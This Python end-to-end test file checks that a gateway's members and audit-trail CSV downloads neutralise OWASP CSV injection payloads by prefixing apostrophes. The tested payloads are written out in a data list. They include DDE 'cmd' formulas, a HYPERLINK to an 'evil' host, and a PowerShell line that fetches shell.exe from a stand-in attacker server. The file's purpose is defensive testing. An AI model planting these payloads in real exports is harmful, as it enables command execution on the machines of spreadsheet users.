"""OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) through both CSV
downloads, end to end: the members download (a member's display name, from the token's `name` claim, and
their user id, the token's `sub`) and the audit-trail download (the organization renamed to the payload by
that member: the name in old_value/new_value, the member's id raw in actor_id). Each file is
read as a spreadsheet splitting on `,` would and as one splitting on `;` would (most European locales):
no cell may start a formula, and what the member typed is all still there behind the apostrophes that
gateway/export.py (spreadsheet_safe) puts before a formula, at the start of a cell and after a `;`."""
import csv
import io
import re
import unicodedata
import uuid

from gateway import tokens
from tests.e2e.helpers import audit_entries, create_organization, error_code, invite, ok, path, wait_for

# What makes a spreadsheet read a cell as a formula (OWASP: = + - @ tab CR), and the full-width forms some
# spreadsheets fold to them; written out here rather than imported, so that shrinking the gateway's list
# cannot make this test agree with it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")

# (what the member types, the cell the members download must hold for it). No payload of a token is
# trimmed by the gateway except by the name rule, so the expected cell is the payload itself with an
# apostrophe before each formula start: at the cell's start and after a `;` (and spaces).
PAYLOADS = [
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0",
     "'=cmd|' /C powershell IEX(wget attacker_server/shell.exe)'!A0"),
    ('=HYPERLINK("http://evil","x")', '\'=HYPERLINK("http://evil","x")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("\t=1+2", None),                                           # control characters: refused in a token
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
    ('=1+2";=1+2', '\'=1+2";\'=1+2'),
    ("=1+2'\" ;,=1+2", "'=1+2'\" ;,=1+2"),
    ("\r=1+2", None),
    ("x;=cmd|' /C calc'!A0;", "x;'=cmd|' /C calc'!A0;"),
    ("x; +cmd|' /C calc'!A0", "x; '+cmd|' /C calc'!A0"),
    ("a;b;@SUM(1)", "a;b;'@SUM(1)"),
    ("x;\t=1+2", None),                                          # a tab inside: refused as a name too
    ("\uff1dcmd|' /C calc'!A0", "'\uff1dcmd|' /C calc'!A0"),    # full-width = + - @
    ("\uff0b1", "'\uff0b1"),
    ("\uff0d1", "'\uff0d1"),
    ("\uff20SUM(1)", "'\uff20SUM(1)"),
    ("x;\uff0b1", "x;'\uff0b1"),
    ('=DDE("cmd";"/C calc";"!A0")A0', '\'=DDE("cmd";"/C calc";"!A0")A0'),
    ("%0A-3+3+cmd|' /C calc'!D2", "%0A-3+3+cmd|' /C calc'!D2"),   # "%0A" as typed: no formula start
    ("\n-3+3+cmd|' /C calc'!D2", None),                          # ... and URL-decoded, a leading line feed
]

_STARTS = re.escape("".join(FORMULA_STARTS))


def undo_defusing(cell):
    """`cell` without the apostrophes spreadsheet_safe adds: one before a formula start at the cell's start
    (spaces may come between), one after a `;` (and spaces or quotes) before a formula start."""
    cell = re.sub(f"^'(?=[ ]*[{_STARTS}])", "", cell)
    return re.sub(f"(;[ \"]*)'(?=[{_STARTS}])", r"\1", cell)


def cells_starting_a_formula(text, delimiter):
    """Every cell of the CSV `text`, split on `delimiter`, that a spreadsheet would read as a formula: the
    raw cell, untrimmed. (A negative number or an ISO date would be the only honest such cells: the exports
    have none, since spreadsheet_safe quotes a leading `-` too and dates start with a digit.)"""
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [(number, cell) for number, row in enumerate(rows, 1) for cell in row if cell.startswith(FORMULA_STARTS)]


def as_dicts(text):
    reader = csv.DictReader(io.StringIO(text, newline=""))
    return list(reader)


def signed_in(system, sub, email, name):
    """A client whose token carries these claims (as test_members forges Mallory's)."""
    api = system.user("payload")
    api.id, api.email, api.name = sub, email, name
    api.session.headers["Authorization"] = f"Bearer {tokens.mint(sub, email, name)}"
    return api


def feed(system, payloads):
    """An organization whose members are named (and identified) by `payloads`, each one renaming the
    organization to its payload; a payload a token or the name rule refuses is asserted refused. Returns
    (the members download, the audit download, {payload: (member or None, name the organization took)})."""
    owner = system.user("owner")
    org = create_organization(owner, "CSV payloads")["id"]
    fed, names = {}, []
    for number, payload in enumerate(payloads):
        suffix = f"~{uuid.uuid4().hex[:8]}"           # a sub is unique; `~` starts no formula
        email = f"payload{number}-{suffix[1:]}@example.com"
        if any(unicodedata.category(c) == "Cc" for c in payload):
            # A token may not carry a control character in its name or sub: refused before any service.
            for claim, sub, name in (("name", f"payload{suffix}", payload), ("sub", payload + suffix, "Payload")):
                response = signed_in(system, sub, email, name).get("/v1/me")
                assert error_code(response, 401) == "invalid_token", repr(payload)
                assert response.json()["error"]["field"] == claim, repr(payload)
            member, renamer = None, owner
        else:
            member = signed_in(system, payload + suffix, email, payload)
            invitation = invite(owner, org, email, ["admin"])
            ok(member.post(f"/v1/invitations/{invitation['id']}/accept"))
            renamer = member
        # Organization names are trimmed first (a leading tab, CR or line feed goes with the blanks), then
        # refused (422) with a control character left inside them.
        stored = payload.strip()
        response = renamer.patch(path(org), json={"name": payload})
        if any(unicodedata.category(c) == "Cc" for c in stored):
            assert error_code(response, 422) == "control_character", repr(payload)
            stored = None
        else:
            assert ok(response)["name"] == stored, repr(payload)
            names.append(stored)
        fed[payload] = (member, stored)

    renames = len([n for n, before in zip(names, ["CSV payloads", *names], strict=False) if n != before])
    members = sum(1 for member, _ in fed.values() if member)

    def settled():
        entries = audit_entries(owner, org)
        counts = [len([e for e in entries if e["type"] == kind])
                  for kind in ("organization.renamed", "invitation.accepted")]
        return entries if counts == [renames, members] else None
    wait_for(settled, timeout=60, message=f"{renames} renames and {members} acceptances in the audit trail")

    members_csv = owner.get(path(org, "/members"), params={"format": "csv"})
    audit_csv = owner.get(path(org, "/audit"), params={"format": "csv"})
    for response in (members_csv, audit_csv):
        assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv"), response.text
    return members_csv.text, audit_csv.text, fed


def assert_defused(system, payloads):
    members_text, audit_text, fed = feed(system, [payload for payload, _ in payloads])
    formulas = [(download, delimiter, row, cell)
                for download, text in (("members", members_text), ("audit", audit_text))
                for delimiter in (",", ";") for row, cell in cells_starting_a_formula(text, delimiter)]
    assert formulas == [], "\n".join(map(repr, formulas))

    # What each member typed is all there: behind the apostrophes, in the members download ...
    rows = {row["email"]: row for row in as_dicts(members_text)}
    for payload, expected in payloads:
        member, _ = fed[payload]
        if member is None:
            continue
        row = rows[member.email]
        if expected is not None:
            assert row["name"] == expected, repr(payload)
        assert undo_defusing(row["name"]) == payload, repr(payload)
        assert undo_defusing(row["user_id"]) == member.id, repr(payload)

    # ... and in the audit download: the names the organization took (plain text in old_value and new_value,
    # defused like any cell), and each member's id raw in actor_id and in the acceptance's user_id.
    audit = as_dicts(audit_text)
    renamed = [row for row in audit if row["type"] == "organization.renamed"]
    assert {undo_defusing(row["new_value"]) for row in renamed} == \
        {stored for _, stored in fed.values() if stored is not None}
    assert {undo_defusing(row["old_value"]) for row in renamed} <= \
        {"CSV payloads"} | {stored for _, stored in fed.values() if stored is not None}
    for payload, (member, _) in fed.items():
        if member is None:
            continue
        mine = [row for row in audit if undo_defusing(row["actor_id"]) == member.id]
        assert {row["type"] for row in mine} >= {"invitation.accepted", "organization.renamed"}, repr(payload)
        [accepted] = [row for row in mine if row["type"] == "invitation.accepted" and row["field"] == "user_id"]
        assert undo_defusing(accepted["new_value"]) == member.id, repr(payload)


def test_owasp_csv_injection_payloads_start_no_formula_in_either_download(system):
    assert len(PAYLOADS) >= 15
    assert_defused(system, PAYLOADS)


# The same break-out as OWASP's `=1+2";=1+2`, with the quote after the `;` instead of before it: in a line
# split on `;`, the quoted CSV cell `"x;""=1+2"` ends a cell at the `;` and the next one opens with `""=1+2`,
# which a CSV reader (Python's, and spreadsheets alike) takes as an empty quoted text followed by `=1+2`.
QUOTE_AFTER_SEPARATOR = [
    ("x;\"=cmd|' /C calc'!A0", "x;\"'=cmd|' /C calc'!A0"),
    ('=1+2";"=1+2', '\'=1+2";"\'=1+2'),
    ('a;"@SUM(1+9)', 'a;"\'@SUM(1+9)'),
]


def test_a_quote_after_a_separator_starts_no_formula_either(system):
    assert_defused(system, QUOTE_AFTER_SEPARATOR)
